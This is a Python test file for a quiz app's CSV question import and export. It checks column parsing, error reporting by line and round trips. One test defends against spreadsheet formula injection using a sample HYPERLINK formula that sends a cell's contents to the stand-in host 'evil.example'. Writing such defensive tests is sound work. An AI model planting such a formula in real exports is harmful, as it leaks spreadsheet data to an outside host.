"""CSV: the documented column layout, every type, problems by line, and the round trip."""

import csv
import io
from decimal import Decimal

from django.conf import settings
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from quizapp.bank.content import load_content
from quizapp.bank.grading import QuestionType
from quizapp.bank.interchange import as_imported, imported_question
from quizapp.bank.interchange.csv_format import (
    COLUMNS,
    csv_format,
    join_list,
    parse_csv,
    split_list,
)
from tests.factories import imported_question_specs

HEADER = ",".join(COLUMNS)


def row(**cells: str) -> str:
    """One CSV line with `cells` in their columns (quoted, so commas and newlines are fine)."""
    return ",".join('"{}"'.format(cells.get(name, "").replace('"', '""')) for name in COLUMNS)


EVERY_TYPE = "\n".join(
    [
        HEADER,
        row(
            slug="capital",
            type="single_choice",
            prompt="Capital of France?",
            explanation="Since 987.",
            difficulty="2",
            tags="geo|Europe Capitals",
            choices="Lyon|Paris|Nice",
            correct="2",
            shuffle="false",
        ),
        row(type="multiple_choice", prompt="Primes?", choices="2|3|4", correct="1|2"),
        row(type="true_false", prompt="The earth is round.", correct="TRUE"),
        row(
            type="short_text",
            prompt="Capital of Armenia?",
            accepted="Yerevan|Erevan",
            typo_tolerance="1",
        ),
        row(type="numeric", prompt="Year?", value="1994", tolerance="0.5", unit="AD"),
        row(type="ordering", prompt="Oldest first", items="Rome|Paris|Berlin"),
        row(type="matching", prompt="Match", pairs="Canada=>Ottawa|Italy=>Rome"),
    ]
)


def test_every_type_is_read():
    result = parse_csv(EVERY_TYPE)
    assert result.problems == ()
    capital, primes, earth, armenia, year, order, match = result.questions
    assert capital.slug == "capital"
    assert (capital.type, capital.difficulty) == (QuestionType.SINGLE_CHOICE, 2)
    assert capital.choices == (("Lyon", False), ("Paris", True), ("Nice", False))
    assert capital.shuffle_choices is False
    assert capital.tags == ("geo", "europe-capitals")
    assert capital.explanation == "Since 987."
    assert primes.choices == (("2", True), ("3", True), ("4", False))
    assert (earth.type, earth.answer_bool) == (QuestionType.TRUE_FALSE, True)
    assert (armenia.accepted, armenia.typo_tolerance) == (("Yerevan", "Erevan"), 1)
    assert (year.value, year.tolerance, year.unit) == (1994, Decimal("0.5"), "AD")
    assert (order.type, order.items) == (QuestionType.ORDERING, ("Rome", "Paris", "Berlin"))
    assert match.pairs == (("Canada", "Ottawa"), ("Italy", "Rome"))
    assert [q.line for q in result.questions] == [2, 3, 4, 5, 6, 7, 8]
    assert primes.slug == "primes"  # generated from the prompt
    assert {(q.status, q.source) for q in result.questions} == {("draft", None)}


def test_columns_may_be_in_any_order_and_optional_ones_left_out():
    result = parse_csv("Prompt,Type,Accepted\nCapital of Armenia?,short_text,Yerevan\n")
    (question,) = result.questions
    assert (question.slug, question.accepted, question.difficulty) == (
        "capital-of-armenia",
        ("Yerevan",),
        3,
    )


def test_a_byte_order_mark_and_windows_line_endings_are_accepted():
    result = parse_csv("\ufefftype,prompt,correct\r\ntrue_false,Round?,false\r\n")
    assert [(q.answer_bool, q.line) for q in result.questions] == [(False, 2)]


def test_the_header_is_required_and_checked():
    assert [str(p) for p in parse_csv("prompt,colour\nHi,red\n").problems] == [
        f"line 1: header: unknown column(s) 'colour' (columns: {', '.join(COLUMNS)})",
        "line 1: header: the header needs the column(s) type",
    ]
    assert [str(p) for p in parse_csv("").problems] == ["line 1: the file is empty"]
    assert [str(p) for p in parse_csv("type,prompt\n").problems] == [
        "line 1: the file contains no questions"
    ]


def test_bad_rows_are_reported_by_line_and_the_rest_still_read():
    text = "\n".join(
        [
            HEADER,
            row(type="essay", prompt="Write"),
            row(type="true_false", prompt="Multi\nline\nprompt", correct="maybe"),
            row(type="true_false", prompt="Fine", correct="yes"),
            row(type="single_choice", prompt="Pick", choices="a|b", correct="3"),
            row(type="single_choice", prompt="Pick", choices="a|b"),
            row(type="numeric", prompt="How many?", value="twelve", unit="cm"),
            row(type="matching", prompt="Match", pairs="a=>b|c->d"),
            row(type="short_text", prompt="Name?", accepted="Bob", value="1"),
            row(type="ordering", prompt="Order", items="a|b", difficulty="hard"),
            row(type="ordering", prompt="Order", items="only one"),
            "true_false,too,few",
            row(type="true_false", prompt="Also fine", correct="f"),
        ]
    )
    result = parse_csv(text)
    assert [q.prompt for q in result.questions] == ["Fine", "Also fine"]
    assert [str(p) for p in result.problems] == [
        "line 2: unknown type 'essay' (use one of: single_choice, multiple_choice, true_false, "
        "short_text, numeric, ordering, matching)",
        "line 3: correct must be true or false, not 'maybe'",
        "line 7: correct lists choice numbers from 1 to 2 (such as 1|3), not '3'",
        "line 8: a single_choice question needs 'correct'",
        "line 9: value must be a number such as 12 or -0.5, not 'twelve'",
        "line 10: pairs are written left=>right, not 'c->d'",
        "line 11: column 'value' does not belong to a short_text question",
        "line 12: difficulty must be a whole number, not 'hard'",
        "line 13: ordering needs at least 2 items",
        f"line 14: the row has 3 cells but the header has {len(COLUMNS)}",
    ]


def test_answer_keys_are_checked_like_the_content_files():
    text = "\n".join(
        [HEADER, row(type="multiple_choice", prompt="All?", choices="a|b", correct="1|2")]
    )
    assert [p.message for p in parse_csv(text).problems] == [
        "multiple choice needs at least one wrong choice"
    ]


def test_list_cells_escape_bars_and_backslashes():
    values = ["a|b", "c\\", "\\|", "plain"]
    assert join_list(values) == "a\\|b|c\\\\|\\\\\\||plain"
    assert split_list(" a | b ||") == ["a", "b"]
    question = imported_question(
        line=0,
        slug="escapes",
        type=QuestionType.MATCHING,
        prompt="Match",
        pairs=(("x=>y", "a|b"), ("left=", ">right\\")),
    )
    (parsed,) = parse_csv(csv_format([question])).questions
    assert parsed.pairs == question.pairs


def test_a_multi_line_cell_keeps_later_line_numbers_right():
    text = "\n".join(
        [
            "type,prompt,correct",
            'true_false,"Line 1\nLine 2\nLine 3",true',
            "true_false,Next,nope",
        ]
    )
    assert [str(p) for p in parse_csv(text).problems] == [
        "line 5: correct must be true or false, not 'nope'"
    ]


def test_exported_csv_has_the_documented_header_and_one_row_per_question():
    questions = parse_csv(EVERY_TYPE).questions
    text = csv_format(questions)
    assert text.splitlines()[0] == HEADER
    assert text.splitlines()[1] == (
        "capital,single_choice,Capital of France?,Since 987.,2,,geo|europe-capitals,"
        "Lyon|Paris|Nice,2,false,,,,,,,"
    )


FORMULAS = ("=", "+", "-", "@", "\t", "\r")


def test_export_writes_formula_like_cells_as_text_and_import_reads_them_back():
    """A spreadsheet opening the export must not run a question's text as a formula; the
    import gives back values that really start with such a character (a numeric answer -5)."""
    questions = [
        imported_question(
            line=0,
            slug="negative",
            type=QuestionType.NUMERIC,
            prompt='=HYPERLINK("http://evil.example/?"&A1,"Open")',
            explanation="-5 degrees, as the article says.",
            value=Decimal(-5),
            tolerance=Decimal("0.5"),
            unit="@C",
        ),
        imported_question(
            line=0,
            slug="signs",
            type=QuestionType.SINGLE_CHOICE,
            prompt="+1 or -1?",
            choices=(("=", False), ("-1", True), ("'=quoted", False)),
        ),
        imported_question(
            line=0, slug="answer", type=QuestionType.SHORT_TEXT, prompt="x", accepted=("-5",)
        ),
    ]
    text = csv_format(questions)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [cell for row in rows for cell in row.values() if cell.startswith(FORMULAS)] == []
    assert rows[0]["prompt"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Open")'
    assert (rows[0]["value"], rows[0]["unit"]) == ("'-5", "'@C")
    assert rows[1]["choices"] == "'=|-1|'=quoted"
    assert rows[2]["accepted"] == "'-5"
    result = parse_csv(text)
    assert result.problems == ()
    assert list(result.questions) == questions


@hypothesis_settings(max_examples=100, deadline=None)
@given(st.lists(imported_question_specs(), min_size=1, max_size=4, unique_by=lambda q: q.slug))
def test_exporting_to_csv_and_importing_gives_the_same_questions(questions):
    result = parse_csv(csv_format(questions))
    assert result.problems == ()
    assert list(result.questions) == questions


def test_the_shipped_question_bank_survives_the_csv_round_trip():
    bundle = load_content(settings.BASE_DIR / "content")
    result = parse_csv(csv_format(bundle.questions))
    assert result.problems == ()
    assert list(result.questions) == [as_imported(q) for q in bundle.questions]
